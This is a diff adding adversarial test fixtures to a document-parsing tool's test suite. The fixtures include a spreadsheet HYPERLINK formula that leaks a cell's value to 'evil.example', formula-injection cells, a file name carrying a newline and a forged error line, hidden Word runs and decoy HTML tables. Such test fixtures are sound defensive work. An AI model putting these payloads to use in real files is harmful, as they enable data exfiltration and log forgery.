@@ -44,6 +44,7 @@ class Case:
     expect: str                # "error": one line in errors.csv; "report": read as a report; "absent": not listed
     stage: str = "read"        # expected Failure.stage (regex) when expect == "error"
     reason: str = ""           # regex the reason must match (re.search, case-insensitive)
+    truth: object = None       # the generator's truth, for "report" cases whose numbers are checked
 
 
 # ---------------------------------------------------------------- helpers: documents with known content
@@ -454,6 +455,24 @@ def make_zoo(folder: str | os.PathLike, *, canary_fifo: bool = True, pdfs: bool 
             add("pdf-not-a-report.pdf", made["not-a-report"], "a PDF that is not a report",
                 stage="normalize", reason=r"not a report|no report tables")
 
+    # -- trust (issue 17): odd names, text Word or a browser does not show, text aimed at spreadsheets
+    def add_report(name: str, truth, kind: str) -> None:
+        cases.append(Case(name, kind, "report", truth=truth))
+
+    gbk = os.fsdecode(os.path.join(os.fsencode(folder), GBK_NAME))
+    add_report(os.path.basename(gbk), g.write_docx(_truth(951), gbk, rng=random.Random(951)),
+               "a file name in GBK bytes (a Windows zip unpacked on Linux)")
+    add_report("html-formulas-and-controls.html", formula_html(folder / "html-formulas-and-controls.html", 952),
+               "agency, section text and a cell starting with '=', control characters in the text")
+    add_report("html-23-digit-count.html", huge_count_html(folder / "html-23-digit-count.html", 953)[0],
+               "a count of 23 digits (beyond exact float integers)")
+    add_report("docx-hidden-runs.docx", hidden_runs_docx(folder / "docx-hidden-runs.docx", 954),
+               "hidden, moved-from and superscript runs beside the digits of every number")
+    add_report("html-decoy-tables.html", decoy_html(folder / "html-decoy-tables.html", 955),
+               "display:none and hidden copies of every table with other numbers")
+    add("newline\nerror: forged line.docx", rng.randbytes(3000), "a newline in a file name (random bytes)",
+        reason=r"not a document|unknown|unrecognised")
+
     # -- the folder itself: links, special files, vanished files
     os.symlink("loop.docx", folder / "loop.docx")
     add("loop.docx", None, "symlink loop (a link to itself)", reason=r"symbolic links|cannot read")
@@ -472,6 +491,100 @@ def make_zoo(folder: str | os.PathLike, *, canary_fifo: bool = True, pdfs: bool 
         add(locked.name, None, "unreadable file (chmod 000)", reason=r"permission")
     # (as root, chmod 000 does not stop reading: that case is left out, see tests/test_zoo.py)
     return cases
+
+
+GBK_NAME = "报告2022".encode("gbk") + b".docx"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D2,"x")'
+HUGE = "99999999999999999999999"
+W_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def _plain_truth(seed: int, agency: str | None = None) -> g.Truth:
+    """A 2021 report of 2022 whose numbers are printed as plain digits."""
+    truth = g.random_truth(random.Random(seed), "2021", variations={"thousands": False, "fullwidth": False,
+                                                                      "unit_suffix": False})
+    truth.year = 2022
+    if agency:
+        truth.agency = agency
+    return truth
+
+
+def _number_field(truth: g.Truth, prefix: str) -> str:
+    return next(f for f, k in truth.kinds.items() if f.startswith(prefix) and k == "number")
+
+
+def formula_html(path: Path, seed: int) -> g.Truth:
+    """A web page report whose agency, section text and a cell carry formulas and control characters,
+    and one table-3 count printed off by one (so the audit lists it, raw cells included)."""
+    from tests.render_html import write_html
+
+    truth = _plain_truth(seed, agency="=2*21人民政府")
+    wrong = _number_field(truth, "t3.new.")
+    truth.raw[wrong] = str(int(truth.values[wrong]) + 1)
+    truth.values[wrong] += 1
+    text = _number_field(truth, "t3.granted.")
+    truth.raw[text], truth.values[text], truth.kinds[text] = "=1+2", None, "text"
+    write_html(truth, path, rng=random.Random(seed))
+    page = path.read_text(encoding="utf-8")
+    page = page.replace("加强培训，提升工作质量。", f"{HYPERLINK.replace('&', '&amp;')}控制\x01字符\x1f。")
+    path.write_text(page, encoding="utf-8")
+    return truth
+
+
+def huge_count_html(path: Path, seed: int) -> tuple[g.Truth, str]:
+    from tests.render_html import write_html
+
+    truth = _plain_truth(seed)
+    fid = _number_field(truth, "t3.new.")
+    truth.raw[fid], truth.values[fid] = HUGE, None
+    write_html(truth, path, rng=random.Random(seed))
+    return truth, fid
+
+
+def hidden_runs_docx(path: Path, seed: int) -> g.Truth:
+    """Every number cell gets a hidden '1' and a moved-from '2' before it and a superscript '3' after it."""
+    import docx
+    from docx.oxml import parse_xml
+
+    def run(text, props="", wrap=None):
+        xml = f'<w:r><w:rPr>{props}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r>'
+        if wrap:
+            xml = f'<w:{wrap} w:id="9" w:author="x" w:date="2023-01-01T00:00:00Z">{xml}</w:{wrap}>'
+        return parse_xml(xml.replace(">", f' xmlns:w="{W_MAIN}">', 1))
+
+    truth = _plain_truth(seed)
+    g.write_docx(truth, path, rng=random.Random(seed))
+    document = docx.Document(str(path))
+    numbers = {truth.raw[f] for f, k in truth.kinds.items() if k == "number"}
+    done = set()
+    for table in document.tables:
+        for row in table.rows:
+            for cell in row.cells:
+                if id(cell._tc) in done or cell.text.strip() not in numbers:
+                    continue
+                done.add(id(cell._tc))
+                runs = cell.paragraphs[0]._p.findall(f"{{{W_MAIN}}}r")
+                runs[0].addprevious(run("1", "<w:vanish/>"))
+                runs[0].addprevious(run("2", "", "moveFrom"))
+                runs[-1].addnext(run("3", '<w:vertAlign w:val="superscript"/>'))
+    document.save(str(path))
+    return truth
+
+
+def decoy_html(path: Path, seed: int) -> g.Truth:
+    """Before every table, a display:none copy and a `hidden` copy with every number + 1000."""
+    import re
+
+    from tests.render_html import write_html
+
+    truth = _plain_truth(seed)
+    write_html(truth, path, rng=random.Random(seed))
+    page = path.read_text(encoding="utf-8")
+    for table in re.findall(r"<table(?! width)(?! class).*?</table>", page, flags=re.S):
+        decoy = re.sub(r">(\d+)<", lambda m: f">{int(m.group(1)) + 1000}<", table)
+        page = page.replace(table, f'<div style="display:none">{decoy}</div><div hidden>{decoy}</div>{table}', 1)
+    path.write_text(page, encoding="utf-8")
+    return truth
 
 
 def _zip(members: dict[str, str | bytes]) -> bytes:
